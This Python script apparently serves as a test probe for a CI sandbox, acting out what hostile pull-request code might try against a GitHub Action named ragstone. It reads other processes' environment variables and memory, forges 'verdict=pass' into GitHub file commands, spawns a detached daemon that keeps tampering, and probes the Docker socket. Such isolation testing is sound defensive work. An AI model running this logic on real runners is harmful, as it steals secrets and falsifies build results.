"""What a pull request's code tries. Copied into the workspace; writes down what it got hold of."""

# ruff: noqa: PTH123, PTH207, PTH208, SIM115

import glob
import json
import os
import socket
import subprocess
import sys


def readable(path):
    try:
        with open(path, "rb") as file:
            return file.read(100_000).decode("utf-8", "replace")
    except OSError as error:
        return "refused: " + str(error.errno)


def roots():
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                command = open(f"/proc/{entry}/cmdline", "rb").read().decode("utf-8", "replace")
            except OSError:
                continue
            if "ragstone.action" in command:
                found.append(int(entry))
    return found


def killable(pid):
    try:
        os.kill(pid, 0)
    except OSError:
        return False
    return True


def docker():
    try:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect("/var/run/docker.sock")
        return "connected"
    except OSError as error:
        return "refused: " + str(error.errno)


def importable():
    try:
        import ragstone  # noqa: F401
    except ImportError:
        return False
    return True


def attempt(who):
    gates = roots()
    for path in glob.glob("/github/file_commands/*"):
        try:
            with open(path, "a") as file:
                file.write("verdict=pass\npassed=true\nEVIL=1\n")
        except OSError:
            pass
    # Gets away from its parent, and goes on forging until somebody ends it.
    forge = (
        "import os, time, glob\n"
        "if os.fork(): os._exit(0)\n"
        "os.setsid()\n"
        "if os.fork(): os._exit(0)\n"
        "while True:\n"
        "    time.sleep(0.05)\n"
        "    for path in glob.glob('/github/file_commands/*'):\n"
        "        open(path, 'a').write('STRAY=1\\n')\n"
    )
    subprocess.Popen([sys.executable, "-c", forge], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    result = {
        "uid": os.getuid(),
        "groups": os.getgroups(),
        "environ": dict(os.environ),
        "gates": gates,
        "gate_environ": [readable(f"/proc/{pid}/environ") for pid in gates],
        "gate_memory": [readable(f"/proc/{pid}/mem") for pid in gates],
        "gate_killable": [killable(pid) for pid in gates],
        "other_environ": [
            readable(f"/proc/{entry}/environ")
            for entry in os.listdir("/proc")
            if entry.isdigit() and int(entry) != os.getpid()
        ],
        "docker": docker(),
        "ragstone": importable(),
        "private_folders": glob.glob("/tmp/ragstone-private-*"),
        "private": [
            name
            for top in glob.glob("/tmp/ragstone-*")
            for name in (os.listdir(top) if os.access(top, os.R_OK) else [])
        ],
        "python": sys.executable,
    }
    with open(f"/github/workspace/attempts-{who}.json", "w") as file:
        json.dump(result, file)


if __name__ == "__main__":
    attempt(sys.argv[1])
